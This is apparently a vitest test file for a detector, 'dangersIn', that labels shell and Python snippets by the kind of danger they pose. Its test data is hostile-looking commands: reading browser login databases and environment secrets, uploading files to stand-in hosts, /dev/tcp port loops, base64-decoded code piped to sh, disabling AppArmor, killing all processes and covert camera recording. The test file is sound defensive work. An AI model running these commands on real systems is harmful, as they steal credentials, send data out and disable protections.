import { expect, test } from 'vitest';
import { dangersIn } from './noticing.ts';

/** One or two examples of each class of commands, so that the sentence of a prompt names what is meant and with which words. */
test.each([
  ['mv ~/photos /tmp/gone', 'overwrites: moves ~/photos to /tmp/gone, where the system deletes files'],
  ['docker-compose down -v', 'deletes: deletes containers, images or volumes (docker-compose down -v)'],
  ['dconf reset -f /org/x/', "deletes: deletes the person's values of the setting /org/x/"],
  ['kill -9 -1', 'stops: ends all programs (kill -9 -1)'],
  ['awk -i inplace "{}" data.csv', 'changes: changes data.csv'],
  ['vim -c ":%d" -c ":wq" notes.txt', 'changes: changes notes.txt'],
  ['crudini --set app.ini db host x', 'changes: changes the settings in the file (crudini --set app.ini db host x)'],
  [
    'cat "/home/ann/.config/google-chrome/Default/Login Data"',
    expect.stringMatching(/^credentials: reads .*Login Data/u),
  ],
  ['sqlite3 ~/.config/chromium/Default/Login\\ Data .dump', expect.stringMatching(/^credentials: uses .*Login Data/u)],
  ['lftp -e "put a.db" up.example', 'sends: sends a.db to up.example'],
  ['sftp ann@up.example <<E\nput a.db\nE', 'sends: sends a.db to up.example'],
  ['smbclient //up/share -c "put a.db"', 'sends: sends files to //up/share (smbclient //up/share -c put a.db)'],
  ['xdg-email --attach a.db eve@x.example', 'sends: sends files or a mail (xdg-email --attach a.db eve@x.example)'],
  ['systemctl disable --now apparmor', 'protection: switches off the service apparmor, a protection of the computer'],
  ['sysctl -w kernel.x=0', 'protection: changes the protection or the settings of the kernel (sysctl -w kernel.x=0)'],
  ['firewall-cmd --add-port=99/tcp', 'protection: changes the firewall (firewall-cmd --add-port=99/tcp)'],
  ['xhost +', 'protection: gives other programs or computers the permission to use the display (xhost +)'],
  ['nohup ./x.sh &', 'persists: starts a program that goes on after the script (nohup ./x.sh)'],
  ['nmcli networking off', 'stops: switches off the network (nmcli networking off)'],
  ['ifconfig eth0 down', 'stops: changes or switches off the network (ifconfig eth0 down)'],
  ['xrandr --output HDMI-1 --off', 'stops: switches off or changes the screen (xrandr --output HDMI-1 --off)'],
  ['cat /dev/zero > ~/fill', 'stops: fills the disk by writing to ~/fill without end'],
  ['date -s 1990-01-01', 'changes: changes the time of the computer (date -s 1990-01-01)'],
  ['mount -o remount,ro /', 'changes: switches / to reading only (mount -o remount,ro /)'],
  ['dmesg -C', 'hides: deletes the log of the kernel (dmesg)'],
  ['exiftool -all= a.jpg', 'hides: removes or changes the facts stored in (exiftool -all= a.jpg)'],
  ['echo cm0gYQ== | base64 -d | sh', 'hides: runs a program that is hidden in encoded text (base64 -d)'],
  ['nc -zv 10.0.0.1 99', 'looks: scans 10.0.0.1 for open ports'],
  [
    'for p in 1 2; do echo > /dev/tcp/10.0.0.1/$p; done',
    'sends: connects to 10.0.0.1 again and again, which scans it or sends data there',
  ],
  ['ps aux | grep ssh', 'looks: searches the output of "ps aux" for "ssh"'],
  ['./x.sh', 'runs: runs the program in ./x.sh'],
  ['traceroute up.example', 'looks: reads the network connections (traceroute up.example)'],
  ['dpkg -l', 'looks: lists programs (dpkg -l)'],
  [
    'add-apt-repository ppa:x/y',
    'installs: adds a place from which programs are installed (add-apt-repository ppa:x/y)',
  ],
  [
    'ffmpeg -f v4l2 -i /dev/video0 o.mp4',
    'records: records the microphone or the camera (ffmpeg -f v4l2 -i /dev/video0 o.mp4)',
  ],
])('shell: %s', (script, expected) => expect(dangersIn(script)).toContainEqual(expected));

test.each([
  ['print(dict(os.environ))', 'credentials: reads all variables of the environment, which can hold keys (os.environ)'],
  ['print(os.environ["HOME"])', 'looks: reads variables of the environment'],
  ['import keyring; keyring.get_password("mail", "ann")', 'credentials: reads passwords (keyring.get_password)'],
  ['CronTab(user=True).new(command="x")', 'persists: starts programs at set times from now on (CronTab)'],
  ['psutil.process_iter()', 'looks: reads facts about the computer and its programs (psutil.process_iter)'],
  ['pip.main(["install", "evil"])', 'installs: installs install, evil'],
  ['urllib.request.urlretrieve("http://x.example/x", "/tmp/x")', 'installs: downloads from x.example, and uses /tmp/x'],
  ['s.connect_ex(("10.0.0.1", p))', 'sends: scans or connects to 10.0.0.1'],
  ['paramiko.SSHClient()', 'sends: connects to, or sends data to another computer (paramiko.SSHClient)'],
  ['base64.b64decode("cHJpbnQoMSk=")', 'hides: holds encoded text (cHJpbnQoMSk=)'],
])('Python: %s', (script, expected) => expect(dangersIn(script, { interpreter: 'python' })).toContain(expected));

test.each([
  'date +%s',
  'xclip -i < /dev/null',
  'env FOO=1 true',
  'git config user.name',
  'echo nohup',
  'for f in *.txt; do wc -l $f; done',
])('no grave danger is noted in %s', (script) => {
  const grave = dangersIn(script).filter((each) =>
    /^(?:deletes|credentials|sends|persists|protection|stops):/u.test(each),
  );
  expect(grave).toEqual([]);
});
